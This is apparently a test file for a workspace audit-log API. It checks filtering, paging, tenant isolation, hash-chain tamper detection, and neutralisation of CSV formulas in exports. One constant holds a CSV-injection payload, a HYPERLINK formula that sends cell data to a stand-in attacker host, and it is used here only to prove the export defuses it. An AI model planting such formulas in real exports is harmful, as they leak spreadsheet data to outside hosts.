/**
 * The workspace audit log over HTTP: reading with filters and a cursor, verifying the chain, and
 * exporting as JSON Lines or CSV. Attacks named where they apply: reading another tenant's log,
 * a member below admin reading it, a forged CSV formula in a field the client controls, tampering
 * with history behind the app's back.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../../src/audit/reading.js';
import { EXPORT_MAX_EVENTS } from '../../src/http/routes/audit-log.js';
import { createTestApp, type TestApp } from '../fixtures/app.js';
import { createVerifiedUser, uniqueEmail } from '../fixtures/accounts.js';
import { createWorkspaceAs, inviteAndJoin, problemCode, workspaceAuditActions } from '../fixtures/workspaces.js';

type User = Awaited<ReturnType<typeof createVerifiedUser>>;

interface EventBody {
  seq: number;
  id: string;
  occurredAt: string;
  actor: { type: string; id: string | null };
  action: string;
  target: { type: string; id: string | null } | null;
  userAgent: string | null;
  details: Record<string, unknown>;
  hash: string;
  prevHash: string;
}

let t: TestApp;
let owner: User;
let admin: User;
let manager: User;
let outsider: User;
let workspaceId: string;
let otherWorkspaceId: string;

/** A user agent a spreadsheet would run as a formula if the export passed it on as it is. */
const FORMULA_USER_AGENT = '=HYPERLINK("https://attacker.example/?"&A1,"click")';

beforeAll(async () => {
  t = await createTestApp();
  [owner, admin, manager, outsider] = (await Promise.all(
    ['owner', 'admin', 'manager', 'outsider'].map((label) => createVerifiedUser(t, { email: uniqueEmail(label), name: label })),
  )) as [User, User, User, User];
  workspaceId = await createWorkspaceAs(t, owner.browser, 'Audited');
  await inviteAndJoin(t, { inviter: owner.browser, workspaceId, member: admin, role: 'admin' });
  await inviteAndJoin(t, { inviter: owner.browser, workspaceId, member: manager, role: 'manager' });
  for (const name of ['Audited 2', 'Audited 3']) {
    const rename = await t.app.inject({
      method: 'PATCH',
      url: `/api/workspaces/${workspaceId}`,
      headers: { ...admin.browser.headers(), 'user-agent': FORMULA_USER_AGENT },
      payload: { name },
    });
    expect(rename.statusCode).toBe(200);
  }
  otherWorkspaceId = await createWorkspaceAs(t, outsider.browser, 'Elsewhere');
});
afterAll(() => t.close());

function get(user: User, url: string) {
  return t.app.inject({ method: 'GET', url, headers: user.browser.headers() });
}

async function readAll(user: User, query = ''): Promise<EventBody[]> {
  const events: EventBody[] = [];
  let cursor: string | null = null;
  do {
    const separator = query === '' ? '' : '&';
    const response = await get(user, `/api/workspaces/${workspaceId}/audit-log?limit=2${separator}${query}${cursor === null ? '' : `&cursor=${cursor}`}`);
    expect(response.statusCode, response.body).toBe(200);
    const page = response.json<{ events: EventBody[]; nextCursor: string | null }>();
    events.push(...page.events);
    cursor = page.nextCursor;
  } while (cursor !== null);
  return events;
}

describe('GET /api/workspaces/:ws/audit-log', () => {
  it('pages through every event newest first, each once, with the fields and hashes of the chain', async () => {
    const events = await readAll(owner);
    const recorded = await workspaceAuditActions(t, workspaceId);
    expect(events.map((event) => event.action)).toEqual([...recorded].reverse());
    expect(events.map((event) => event.seq)).toEqual(recorded.map((_, index) => recorded.length - index));
    // Each event names the hash of the one before it, as the chain stores it.
    for (const [index, event] of events.slice(0, -1).entries()) expect(event.prevHash).toBe(events[index + 1]!.hash);
    expect(events.find((event) => event.action === 'workspace.renamed')).toMatchObject({
      actor: { type: 'user', id: admin.userId },
      target: { type: 'workspace', id: workspaceId },
      userAgent: FORMULA_USER_AGENT,
    });
  });

  it('filters by action, actor, target and time range', async () => {
    const all = await readAll(owner);
    const renames = await readAll(owner, 'action=workspace.renamed');
    expect(renames).toHaveLength(2);
    expect(renames.every((event) => event.action === 'workspace.renamed')).toBe(true);

    const byAdmin = await readAll(owner, `actorType=user&actorId=${admin.userId}`);
    expect(byAdmin.map((event) => event.id).sort()).toEqual(
      all.filter((event) => event.actor.id === admin.userId).map((event) => event.id).sort(),
    );
    expect(byAdmin.length).toBeGreaterThan(0);

    const onWorkspace = await readAll(owner, `targetType=workspace&targetId=${workspaceId}`);
    expect(onWorkspace.map((event) => event.action)).toEqual(expect.arrayContaining(['workspace.renamed', 'workspace.created']));
    expect(onWorkspace.every((event) => event.target?.type === 'workspace' && event.target.id === workspaceId)).toBe(true);
    expect(onWorkspace.length).toBeLessThan(all.length);

    const newest = all[0]!;
    const fromNewest = await readAll(owner, `from=${encodeURIComponent(newest.occurredAt)}`);
    expect(fromNewest.map((event) => event.id)).toContain(newest.id);
    expect(fromNewest.every((event) => event.occurredAt >= newest.occurredAt)).toBe(true);
    const beforeNewest = await readAll(owner, `to=${encodeURIComponent(newest.occurredAt)}`);
    expect(beforeNewest.every((event) => event.occurredAt < newest.occurredAt)).toBe(true);
    expect(beforeNewest.length + fromNewest.length).toBe(all.length);
  });

  it.each([
    ['a cursor that is not one', 'cursor=abc'],
    ['a zero cursor', 'cursor=0'],
    ['a cursor beyond any sequence number', 'cursor=99999999999999999'],
    ['an inverted time range', 'from=2026-01-02T00:00:00Z&to=2026-01-01T00:00:00Z'],
    ['an unknown filter', 'actor=someone'],
    ['an action outside the catalogue', 'action=workspace.exploded'],
    ['a time without an offset', 'from=2026-01-01T00:00:00'],
    ['a limit above 100', 'limit=101'],
    ['the same filter twice', 'action=workspace.renamed&action=member.joined'],
    ['a NUL in a target id (Postgres cannot compare such text)', 'targetId=a%00b'],
    ['a NUL in a target type', 'targetType=%00'],
  ])('refuses %s with 400 problem+json and records nothing', async (_label, query) => {
    const before = await workspaceAuditActions(t, workspaceId);
    const response = await get(owner, `/api/workspaces/${workspaceId}/audit-log?${query}`);
    expect(response.statusCode, response.body).toBe(400);
    expect(problemCode(response)).toBe('VALIDATION_FAILED');
    expect(await workspaceAuditActions(t, workspaceId)).toEqual(before);
  });
});

describe('who may read a workspace log', () => {
  it.each(['audit-log', 'audit-log/verify', 'audit-log/export?format=jsonl'])(
    'answers 404 to the owner of another workspace reading its %s (cross-tenant read)',
    async (path) => {
      const response = await get(outsider, `/api/workspaces/${workspaceId}/${path}`);
      expect(response.statusCode).toBe(404);
      expect(problemCode(response)).toBe('NOT_FOUND');
    },
  );

  it.each(['audit-log', 'audit-log/verify', 'audit-log/export?format=csv'])('refuses %s to a manager with 403 and lets an admin in', async (path) => {
    const refused = await get(manager, `/api/workspaces/${workspaceId}/${path}`);
    expect(refused.statusCode).toBe(403);
    expect(problemCode(refused)).toBe('INSUFFICIENT_ROLE');
    expect((await get(admin, `/api/workspaces/${workspaceId}/${path}`)).statusCode).toBe(200);
  });

  it('shows no event of another workspace, whatever the filter names', async () => {
    const theirs = await workspaceAuditActions(t, otherWorkspaceId);
    expect(theirs.length).toBeGreaterThan(0);
    const events = await readAll(owner, `actorId=${outsider.userId}`);
    expect(events).toEqual([]);
  });
});

describe('GET /api/workspaces/:ws/audit-log/verify', () => {
  it('verifies an untouched chain, and names the first event edited behind the app (tampering as the database owner)', async () => {
    const workspace = await createWorkspaceAs(t, owner.browser, 'Tamper');
    for (const name of ['Tamper 2', 'Tamper 3', 'Tamper 4']) {
      await t.app.inject({ method: 'PATCH', url: `/api/workspaces/${workspace}`, headers: owner.browser.headers(), payload: { name } });
    }
    const intact = await get(owner, `/api/workspaces/${workspace}/audit-log/verify`);
    expect(intact.json()).toMatchObject({ ok: true, events: 4, head: { seq: 4 } });

    const { rows } = await t.testDatabase.database.transactionAsOwner(async (tx) => {
      await tx.query(`SET LOCAL session_replication_role = replica`);
      return tx.query<{ id: string }>(
        `UPDATE rampart.audit_events SET details = '{"name": "Innocent"}' WHERE workspace_id = $1 AND seq = 2 RETURNING id`,
        [workspace],
      );
    });
    const broken = await get(owner, `/api/workspaces/${workspace}/audit-log/verify`);
    expect(broken.statusCode).toBe(200);
    expect(broken.json()).toMatchObject({ ok: false, firstBadEvent: { seq: 2, id: rows[0]!.id }, reason: 'was altered after it was recorded' });
  });
});

describe('GET /api/workspaces/:ws/audit-log/export', () => {
  it('exports JSON Lines equal to the log, as a download, and records the export', async () => {
    const all = await readAll(owner);
    const response = await get(admin, `/api/workspaces/${workspaceId}/audit-log/export?format=jsonl&action=workspace.renamed`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/jsonl; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(`attachment; filename="audit-log-${workspaceId}.jsonl"`);
    const lines = response.body.trimEnd().split('\n').map((line) => JSON.parse(line) as EventBody);
    expect(lines).toEqual(all.filter((event) => event.action === 'workspace.renamed'));

    const [exported] = (await readAll(owner, 'action=audit.exported')).filter((event) => event.actor.id === admin.userId);
    expect(exported).toMatchObject({ actor: { type: 'user', id: admin.userId }, details: { format: 'jsonl', events: 2, filter: { action: 'workspace.renamed' } } });
  });

  it('exports CSV with every formula-like cell neutralised (CSV injection through the user agent)', async () => {
    const response = await get(owner, `/api/workspaces/${workspaceId}/audit-log/export?format=csv&action=workspace.renamed`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    const lines = response.body.split('\r\n');
    expect(lines[0]).toBe('seq,id,occurred_at,actor_type,actor_id,action,target_type,target_id,ip,user_agent,request_id,details,prev_hash,hash');
    expect(lines).toHaveLength(4); // header, two events, and the empty string after the last line end
    for (const line of lines.slice(1, 3)) {
      expect(line).toContain(`"'=HYPERLINK(""https://attacker.example/?""&A1,""click"")"`);
      expect(line).not.toMatch(/(^|,)"[=+\-@]/);
    }
  });

  it.each([
    ['=1+1', `"'=1+1"`],
    ['+1', `"'+1"`],
    ['-1', `"'-1"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\tcmd', `"'\tcmd"`],
    ['\rcmd', `"'\rcmd"`],
    ['plain "quoted"', `"plain ""quoted"""`],
    [null, '""'],
  ])('writes the CSV cell %j as %s', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('refuses a request without a format, and refuses an export above the ceiling without recording one', async () => {
    expect(problemCode(await get(owner, `/api/workspaces/${workspaceId}/audit-log/export`))).toBe('VALIDATION_FAILED');

    const workspace = await createWorkspaceAs(t, owner.browser, 'Huge');
    // Events written straight into the table as the owner: what is read back is counted, not verified.
    await t.testDatabase.database.transactionAsOwner((tx) =>
      tx.query(
        `INSERT INTO rampart.audit_events (workspace_id, seq, id, occurred_at, actor_type, actor_id, action, prev_hash, hash)
         SELECT $1, n + 1, gen_random_uuid(), date_trunc('milliseconds', now()), 'system', NULL, 'audit.purged', repeat('0', 64), repeat('0', 64)
           FROM generate_series(1, $2::int) AS n`,
        [workspace, EXPORT_MAX_EVENTS],
      ),
    );
    const before = await workspaceAuditActions(t, workspace);
    const response = await get(owner, `/api/workspaces/${workspace}/audit-log/export?format=jsonl`);
    expect(response.statusCode).toBe(400);
    expect(problemCode(response)).toBe('EXPORT_TOO_LARGE');
    expect((await workspaceAuditActions(t, workspace)).length).toBe(before.length);
  }, 120_000);
});
